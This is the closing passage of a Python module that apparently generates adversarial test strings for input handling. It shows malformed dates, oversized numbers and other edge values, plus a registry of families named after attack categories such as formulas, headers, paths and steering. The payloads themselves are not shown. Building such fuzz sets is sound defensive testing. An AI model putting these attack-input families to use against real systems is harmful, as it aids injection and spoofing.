            f"{text} (list row 9, in a browser)",
            f"{text}; {text}",
        )
    for n in range(40):
        yield from (
            f"{2026 + n}-13-{40 + n}",
            f"1e{n * 20}",
            f"{'9' * (n + 10)}",
            f"-{n}",
            f"{n}%",
            f"+86 {n}",
            f"0{n}",
        )


_drawn = random.Random(20261123)
_FAMILIES: tuple[Callable[[], Iterator[str]], ...] = (
    markup,
    attributes,
    addresses,
    templates,
    formulas,
    headers,
    encoded_words,
    paths,
    marks_of_xml,
    fields,
    steering,
    letters,
    tables,
    lookalikes,
)
FAMILIES: dict[str, tuple[str, ...]] = {family.__name__: tuple(dict.fromkeys(family())) for family in _FAMILIES}
"""The strings by what they attack; none is empty."""
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""All of them, once each."""
